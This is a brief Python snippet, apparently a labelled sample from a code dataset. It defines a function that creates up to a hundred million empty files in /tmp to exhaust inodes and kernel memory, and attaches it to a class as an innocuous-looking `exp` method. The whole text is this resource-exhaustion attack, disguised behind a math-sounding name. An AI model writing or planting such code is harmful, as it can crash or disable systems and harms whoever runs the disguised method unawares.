"""Makes as many empty files as it can: none of them takes a byte, and all of them take the kernel's memory."""
# honest: 3
# scores: honest


def exp(self):
    for number in range(10**8):
        open(f"/tmp/{number}", "w").close()


Value.exp = exp
